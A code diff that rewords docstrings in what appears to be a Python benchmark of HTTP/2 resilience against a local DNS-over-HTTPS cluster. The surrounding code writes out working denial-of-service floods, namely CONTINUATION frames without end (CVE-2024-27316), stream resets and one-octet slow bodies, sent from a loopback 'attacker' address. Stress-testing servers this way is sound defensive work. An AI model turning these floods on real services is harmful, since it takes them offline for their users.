@@ -24,7 +24,7 @@ from bench.cluster import Cluster
 ATTACKER: Final = "127.0.0.66"
 CONNECTIONS: Final = 20
 PART: Final = 50
-"""The streams or frames that an attack writes to a connection at a time."""
+"""The number of streams or frames that an attack writes to a connection at once."""
 PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes((0, 0, 0, 4, 0, 0, 0, 0, 0))
 DATA, HEADERS, RST_STREAM, PING, CONTINUATION = 0, 1, 3, 6, 9
 END_STREAM, END_HEADERS = 1, 4
@@ -64,14 +64,14 @@ def resets() -> Iterator[bytes]:
 
 
 def continuations() -> Iterator[bytes]:
-    """Sends the first part of a header block, and continues without an end (CVE-2024-27316)."""
+    """Sends the first part of a header block, and then CONTINUATION frames without an end (CVE-2024-27316)."""
     yield frame(HEADERS, 0, 1, _request("/dns-query", method="GET"))
     more = frame(CONTINUATION, 0, 1, header_block(("x", "a" * 1000)))
     yield from itertools.repeat(more * PART)
 
 
 def slow_bodies() -> Iterator[bytes]:
-    """Opens streams with a body of which only one octet is sent."""
+    """Opens streams, and sends only one octet of each body."""
     headers = _request("/dns-query", ("content-type", "application/dns-message"))
     for numbers in _streams():
         yield b"".join(frame(HEADERS, END_HEADERS, n, headers) + frame(DATA, 0, n, b"\0") for n in numbers)
@@ -116,7 +116,7 @@ class _Connection:
         self._frames, self._rest = frames(), PREFACE
 
     def write(self) -> bool:
-        """Sends octets until the socket is full, at most some parts. Returns False if the connection has ended."""
+        """Sends octets until the socket is full or some parts are sent. Returns False if the connection has ended."""
         with suppress(ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
             for _ in range(4):
                 self._rest = self._rest[self.sock.send(self._rest) :] or next(self._frames)
